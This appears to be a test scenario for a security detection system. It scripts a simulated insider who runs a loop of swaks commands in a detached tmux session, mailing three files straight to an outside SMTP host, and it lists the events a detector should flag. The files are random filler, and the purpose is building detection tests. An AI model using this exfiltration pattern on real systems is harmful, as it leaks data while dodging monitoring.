# One file a message, one message a second, in a terminal that nobody looks at.
title="swaks sends files one by one from a loop in a detached tmux session"
what="The intern starts a detached tmux session in which a loop sends three tables with swaks straight to 203.0.113.25 port 25, one message each to another outside address. The own mail server has no part in it."
host=ws3.example.org user=intern daemons="cron sshd" audit_rules=audit-wide.rules

setup() { for i in 1 2 3; do head -c 15000 /dev/urandom > /home/intern/d$i.xlsx; done; chown intern: /home/intern/d*; }
act() {
  small_talk 1
  ssh_as intern <<'L'
tmux new -d -s w 'sleep 2; for i in 1 2 3; do swaks --silent 3 --server 203.0.113.25 --from intern@example.org --to t$i@example.com --attach @d$i.xlsx; sleep 1; done'
%sleep 2
L
  sleep 9
  small_talk 1
}
truth() {
  exec_step terminal 'tmux new -d -s w' 'a terminal without a person'
  exec_step execute 'swaks --silent 3' 'a mailer starts'
  net_step connect '203.0.113.25:25' 'it speaks SMTP to the outside'
  exec_step again 'swaks --silent 3 .*d2.xlsx' 'and again'
}
